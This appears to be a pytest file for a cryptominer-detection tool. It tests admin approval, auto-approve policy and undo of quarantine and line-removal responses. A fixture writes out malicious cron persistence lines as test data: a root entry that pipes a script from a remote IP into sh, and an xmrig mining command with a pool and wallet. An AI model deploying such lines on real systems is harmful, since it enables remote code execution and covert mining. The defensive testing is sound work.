"""File responses through the agent run the ``minehunt respond`` engine: journaled in the
quarantine directory and undone with ``minehunt respond undo``. Without a policy a response
waits for an admin's approval; under the auto-approve policy it runs at the agent's next
contact, and only for the findings the policy matches."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agent.test_send_install import MINER_CONFIG
from tests.support.fleet import Dashboard, FleetServer, running_server

CHECK = "MH-YARA-020"  # the miner-configuration rule: never raised by the agent's host scan


@pytest.fixture
def server(tmp_path: Path) -> Iterator[FleetServer]:
    with running_server(f"sqlite:///{tmp_path / 'fleet.sqlite'}", tmp_path / "srv") as s:
        yield s


def minehunt(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "minehunt", *args],
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, **env},
    )


def plant(where: Path) -> Path:
    cfg = where / ".cache" / "config.json"
    cfg.parent.mkdir(parents=True)
    cfg.write_text(json.dumps(MINER_CONFIG, indent=2))
    cfg.chmod(0o640)
    return cfg


def response_row(dash: Dashboard, finding_id: int) -> tuple[int, str]:
    page = dash.http.get(f"/findings/{finding_id}").text
    m = re.search(r'data-response-id="(\d+)">(.*?)</tr>', page, re.S)
    assert m, "no response on the finding page"
    return int(m.group(1)), m.group(2)


def test_file_responses_wait_for_approval_or_policy_and_are_undoable(
    server: FleetServer, tmp_path: Path
) -> None:
    qdir = tmp_path / "quarantine"
    env = {"MINEHUNT_DATA_DIR": str(tmp_path / "data"), "MINEHUNT_QUARANTINE_DIR": str(qdir)}
    token = tmp_path / "token"
    token.write_text(server.token("this-host") + "\n")
    send = ("--send", server.url, "--token-file", str(token))
    agent = ("agent", "--server", server.url, "--token-file", str(token), "--state-dir",
             str(tmp_path / "data" / "agent"), "--cpu-window", "0.1", "--once")  # fmt: skip
    dash = server.user("admin")
    cfg = plant(tmp_path / "share")
    original = cfg.read_bytes()
    try:
        scan = minehunt("scan", "files", str(tmp_path / "share"), "-f", "json", *send, env=env)
        assert scan.returncode == 1, scan.stderr
        (row,) = [
            r for r in dash.findings(check=CHECK) if r["finding"]["target"]["path"] == str(cfg)
        ]

        # No policy: the proposed quarantine waits; the agent's contact changes nothing.
        assert "quarantine" in dash.http.get(f"/findings/{row['id']}").text
        r = dash.http.post(
            f"/findings/{row['id']}/responses", data={"action": "quarantine", "csrf": dash.csrf}
        )
        assert r.status_code == 303, r.text
        ran = minehunt(*agent, env=env)
        assert ran.returncode == 0, ran.stderr
        assert cfg.read_bytes() == original
        rid, tr = response_row(dash, row["id"])
        assert "requested" in tr

        # Approved: the next contact quarantines it through the engine, journaled.
        r = dash.http.post(
            f"/responses/{rid}/decision", data={"decision": "approve", "csrf": dash.csrf}
        )
        assert r.status_code == 303
        ran = minehunt(*agent, env=env)
        assert ran.returncode == 0, ran.stderr
        _, tr = response_row(dash, row["id"])
        assert not cfg.exists(), (tr, ran.stderr)
        m = re.search(r"undo with: minehunt respond undo (\S+?)<", tr)
        assert "done" in tr and f"quarantined {cfg}" in tr and m, tr
        undo = minehunt("respond", "undo", m.group(1), "--yes", env=env)
        assert undo.returncode == 0, undo.stderr
        assert cfg.read_bytes() == original and oct(cfg.stat().st_mode & 0o777) == "0o640"

        # Under the policy a new matching finding is quarantined with nobody's click.
        pol = minehunt("server", "policy", "set", "auto-approve", "--min-severity", "high",
                       "--checks", CHECK, "--action", "quarantine", env=server.env)  # fmt: skip
        assert pol.returncode == 0, pol.stderr
        shown = minehunt("server", "policy", "show", env=server.env)
        assert json.loads(shown.stdout)["checks"] == [CHECK]
        second = plant(tmp_path / "share2")
        scan = minehunt("scan", "files", str(tmp_path / "share2"), "-f", "json", *send, env=env)
        assert scan.returncode == 1, scan.stderr
        ran = minehunt(*agent, env=env)
        assert ran.returncode == 0, ran.stderr
        assert not second.exists()
        assert cfg.read_bytes() == original, "a finding with an earlier response was redone"
        (row2,) = [
            r for r in dash.findings(check=CHECK) if r["finding"]["target"]["path"] == str(second)
        ]
        _, tr = response_row(dash, row2["id"])
        assert "done" in tr and "policy auto-approve" in tr, tr
        rid2 = re.search(r"undo with: minehunt respond undo (\S+?)<", tr)
        assert rid2
        listed = minehunt("respond", "list", "--json", env=env)
        ids = [json.loads(line)["id"] for line in listed.stdout.splitlines()]
        assert m.group(1) in ids and rid2.group(1) in ids
        undo = minehunt("respond", "undo", rid2.group(1), "--yes", env=env)
        assert undo.returncode == 0, undo.stderr
        assert second.read_bytes() == original

        # Cleared: back to waiting for approval.
        assert minehunt("server", "policy", "clear", "auto-approve", env=server.env).returncode == 0
        third = plant(tmp_path / "share3")
        assert minehunt("scan", "files", str(tmp_path / "share3"), *send, env=env).returncode == 1
        assert minehunt(*agent, env=env).returncode == 0
        assert third.read_bytes() == original
    finally:
        for p in tmp_path.glob("share*/.cache/config.json"):
            p.unlink()  # no miner config outlives the test


CRON = (
    "SHELL=/bin/sh\n"
    "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n"
    "@reboot root /tmp/.x/xmrig -o pool.supportxmr.com:443 -u "
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n"
)


def test_approved_respond_takes_out_persistence_lines_and_undo_puts_them_back(
    server: FleetServer, tmp_path: Path
) -> None:
    """The host scan's cron finding (found in a scratch root, then placed where the agent's
    '/' sees the file) answered with 'respond': the engine removes the flagged lines."""
    qdir = tmp_path / "quarantine"
    env = {"MINEHUNT_DATA_DIR": str(tmp_path / "data"), "MINEHUNT_QUARANTINE_DIR": str(qdir)}
    token = tmp_path / "token"
    token.write_text(server.token("this-host") + "\n")
    chroot = tmp_path / "root"
    cron = chroot / "etc" / "cron.d" / "sysupdate"
    cron.parent.mkdir(parents=True)
    cron.write_text(CRON)
    scan = minehunt("scan", "host", "--root", str(chroot), "-f", "json", env=env)
    assert scan.returncode == 1, scan.stderr
    report = json.loads(scan.stdout.replace('"/etc/cron.d/sysupdate', json.dumps(str(cron))[:-1]))
    (f,) = [x for x in report["findings"] if x["target"]["path"] == str(cron)]
    assert {e["line"] for e in f["evidence"] if e["check_id"].startswith("MH-PERS-")} >= {2, 3}
    sent = subprocess.run(
        [sys.executable, "-m", "minehunt", "agent", "send", "-", "--server", server.url,
         "--token-file", str(token)],
        input=json.dumps(report), capture_output=True, text=True, timeout=120,
        env={**os.environ, **env},
    )  # fmt: skip
    assert sent.returncode == 0, sent.stderr

    dash = server.user("admin")
    (row,) = [r for r in dash.findings() if r["finding"]["target"]["path"] == str(cron)]
    r = dash.http.post(
        f"/findings/{row['id']}/responses", data={"action": "respond", "csrf": dash.csrf}
    )
    assert r.status_code == 303, r.text
    rid, _ = response_row(dash, row["id"])
    r = dash.http.post(
        f"/responses/{rid}/decision", data={"decision": "approve", "csrf": dash.csrf}
    )
    assert r.status_code == 303
    ran = minehunt("agent", "--server", server.url, "--token-file", str(token),
                   "--cpu-window", "0.1", "--once", env=env)  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    assert cron.read_text() == "SHELL=/bin/sh\n"
    _, tr = response_row(dash, row["id"])
    m = re.search(r"undo with: minehunt respond undo (\S+?)<", tr)
    assert "done" in tr and "removed line 3" in tr and "removed line 2" in tr and m, tr
    undo = minehunt("respond", "undo", m.group(1), "--yes", env=env)
    assert undo.returncode == 0, undo.stderr
    assert cron.read_text() == CRON
